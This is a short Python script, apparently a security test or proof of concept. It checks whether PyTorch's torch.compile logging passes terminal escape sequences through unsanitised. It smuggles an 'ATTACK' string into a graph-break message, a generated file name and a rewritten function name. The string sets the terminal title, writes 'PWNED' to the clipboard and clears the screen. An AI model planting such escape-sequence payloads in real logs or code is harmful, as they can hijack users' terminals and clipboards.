"""Escape sequences where a job can put them: a graph-break message
(torch._dynamo.graph_break(msg=...)), a frame's name and its file name."""
import torch

ATTACK = "\x1b]0;PWNED\x07\x1b]52;c;UFdORUQ=\x07\x1b[2J"
SOURCE = """
def step(x):
    y = x * 2
    torch._dynamo.graph_break(msg=ATTACK)
    return y + 1
"""

ns = {"torch": torch, "ATTACK": ATTACK}
exec(compile(SOURCE, f"/tmp/gen{ATTACK}.py", "exec"), ns)
step = ns["step"]
step.__code__ = step.__code__.replace(co_name=f"step{ATTACK}", co_qualname=f"step{ATTACK}")
compiled = torch.compile(step, backend="eager")
for n in (4, 4, 5, 6):
    compiled(torch.randn(n))
